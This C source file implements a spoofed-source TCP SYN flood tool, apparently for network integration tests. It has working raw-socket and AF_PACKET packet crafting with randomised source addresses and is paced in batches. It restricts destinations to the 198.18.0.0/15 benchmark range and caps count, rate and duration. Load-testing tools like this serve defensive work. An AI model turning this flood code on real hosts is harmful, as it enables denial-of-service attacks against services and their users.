/* synflood — a bounded spoofed-source SYN flood for the integration tests.
 *
 *   synflood DST_IP DST_PORT --count N [--rate PPS] [--max-seconds S] [--seed X]
 *
 * The frames go out over an AF_PACKET socket (qdisc bypassed: the kernel's IP output
 * path is what limits a raw IP socket), to the MAC the kernel's neighbour table has for
 * DST_IP (/proc/net/arp: connect to it once first); without an entry, over a raw IPv4
 * socket (IP_HDRINCL).
 *
 * Sends N TCP SYNs to DST_IP:DST_PORT over a raw IPv4 socket (IP_HDRINCL), each
 * from a pseudo-random source in 198.18.128.0/17 (off the test subnet: the
 * SYN+ACKs go nowhere, as in a real spoofed flood) with a random port, ISN and
 * the options of a Linux SYN (MSS, SACK-permitted, timestamps, window scale).
 * Paced to at most PPS per second (default 150000) in batches of sendmmsg; stops
 * after N packets or S seconds (default 10), whichever comes first.
 * Refuses any destination outside 198.18.0.0/15 (the test network's range).
 * Output: "synflood: sent=N seconds=T rate=R/s". Exit 0 if all N were sent,
 * 1 on a socket error, 2 usage, 3 time limit before N.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "seg_build.h"

#define BATCH 64
#define PKT   60    /* 20 IP + 20 TCP + 20 options */
#define ETH   14

static uint64_t rng;

static uint32_t rnd(void) { return xorshift32(&rng); }

static void build(uint8_t *p, uint32_t dst, uint16_t dport)
{
    uint32_t src = 0xC6128000u | (rnd() & 0x7fff);  /* 198.18.128.0/17 */
    if ((src & 0xff) == 0 || (src & 0xff) == 0xff)
        src ^= 1;
    /* A Linux SYN's options: MSS, SACK permitted, timestamps, NOP, window scale 7. */
    uint8_t o[20] = { 2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7 };
    put32(o + 8, rnd());
    uint16_t id = (uint16_t)rnd(), sport = (uint16_t)(1024 + rnd() % 60000);
    seg_build_v4(p, id, src, sport, dst, dport, rnd() ^ (rnd() << 16), 0, 0x02 /* SYN */, 64240,
                 o, sizeof(o), NULL, 0);
}

/* The kernel's neighbour entry for dst: MAC and interface, from /proc/net/arp. */
static int arp_lookup(const char *ip, unsigned char mac[6], char ifname[IF_NAMESIZE])
{
    FILE *f = fopen("/proc/net/arp", "r");
    if (!f)
        return -1;
    char line[256], a[64], hw[64], dev[64];
    unsigned type, flags;
    int found = -1;
    if (!fgets(line, sizeof(line), f)) {
        fclose(f);
        return -1;
    }
    while (fgets(line, sizeof(line), f)) {
        if (sscanf(line, "%63s 0x%x 0x%x %63s %*s %63s", a, &type, &flags, hw, dev) != 5)
            continue;
        if (strcmp(a, ip) || !(flags & 2))
            continue;
        if (sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
                   &mac[4], &mac[5]) == 6 && strlen(dev) < IF_NAMESIZE) {
            strcpy(ifname, dev);
            found = 0;
            break;
        }
    }
    fclose(f);
    return found;
}

int main(int argc, char **argv)
{
    if (argc < 5) {
        fprintf(stderr, "usage: synflood DST_IP DST_PORT --count N [--rate PPS] [--max-seconds S] [--seed X]\n");
        return 2;
    }
    struct in_addr da;
    if (inet_pton(AF_INET, argv[1], &da) != 1) {
        fprintf(stderr, "synflood: bad address %s\n", argv[1]);
        return 2;
    }
    uint32_t dst = ntohl(da.s_addr);
    if ((dst & 0xfffe0000u) != 0xC6120000u) {
        fprintf(stderr, "synflood: %s is outside 198.18.0.0/15: refused\n", argv[1]);
        return 2;
    }
    int port = atoi(argv[2]);
    long long count = 0, rate = 150000, maxs = 10;
    rng = 0x9e3779b97f4a7c15ull;
    for (int i = 3; i + 1 < argc; i += 2) {
        if (!strcmp(argv[i], "--count"))
            count = atoll(argv[i + 1]);
        else if (!strcmp(argv[i], "--rate"))
            rate = atoll(argv[i + 1]);
        else if (!strcmp(argv[i], "--max-seconds"))
            maxs = atoll(argv[i + 1]);
        else if (!strcmp(argv[i], "--seed"))
            rng ^= (uint64_t)atoll(argv[i + 1]) * 0x100000001b3ull;
        else {
            fprintf(stderr, "synflood: unknown option %s\n", argv[i]);
            return 2;
        }
    }
    if (port < 1 || port > 65535 || count < 1 || rate < 1 || maxs < 1 || maxs > 600) {
        fprintf(stderr, "synflood: bad port, count, rate or time\n");
        return 2;
    }
    static uint8_t frames[BATCH][ETH + PKT];
    struct mmsghdr msgs[BATCH];
    struct iovec iov[BATCH];
    struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr = da };
    struct sockaddr_ll ll = { .sll_family = AF_PACKET, .sll_protocol = htons(ETH_P_IP), .sll_halen = 6 };
    unsigned char mac[6];
    char ifname[IF_NAMESIZE];
    int fd = -1, eth = 0;
    if (arp_lookup(argv[1], mac, ifname) == 0 && (ll.sll_ifindex = (int)if_nametoindex(ifname)) > 0 &&
        (fd = socket(AF_PACKET, SOCK_RAW, 0)) >= 0) {
        int one = 1;
        setsockopt(fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one));
        memcpy(ll.sll_addr, mac, 6);
        eth = ETH;
        for (int i = 0; i < BATCH; i++) {
            memcpy(frames[i], mac, 6);
            memset(frames[i] + 6, 0x02, 6);     /* a locally administered source */
            frames[i][12] = 0x08;
            frames[i][13] = 0x00;
        }
    } else {
        fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
        if (fd < 0) {
            perror("synflood: socket");
            return 1;
        }
    }
    int sb = 4 << 20;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sb, sizeof(sb));
    memset(msgs, 0, sizeof(msgs));
    for (int i = 0; i < BATCH; i++) {
        iov[i].iov_base = frames[i] + ETH - eth;
        iov[i].iov_len = (size_t)(eth + PKT);
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
        msgs[i].msg_hdr.msg_name = eth ? (void *)&ll : (void *)&to;
        msgs[i].msg_hdr.msg_namelen = eth ? sizeof(ll) : sizeof(to);
    }
    uint64_t t0 = mono_ns(), end = t0 + (uint64_t)maxs * 1000000000ull;
    long long sent = 0;
    while (sent < count) {
        uint64_t t = mono_ns();
        if (t >= end)
            break;
        /* pacing: never ahead of rate * elapsed */
        long long allowed = (long long)((t - t0) * (double)rate / 1e9) + BATCH;
        if (sent >= allowed) {
            struct timespec ts = { 0, 200000 };
            nanosleep(&ts, NULL);
            continue;
        }
        int n = BATCH;
        if (count - sent < n)
            n = (int)(count - sent);
        for (int i = 0; i < n; i++)
            build(frames[i] + ETH, dst, (uint16_t)port);
        int r = sendmmsg(fd, msgs, (unsigned)n, 0);
        if (r < 0) {
            if (errno == ENOBUFS || errno == EAGAIN || errno == EINTR)
                continue;
            perror("synflood: sendmmsg");
            return 1;
        }
        sent += r;
    }
    double secs = (double)(mono_ns() - t0) / 1e9;
    printf("synflood: sent=%lld seconds=%.2f rate=%.0f/s via=%s\n", sent, secs,
           secs > 0 ? sent / secs : 0, eth ? "packet" : "raw");
    return sent == count ? 0 : 3;
}
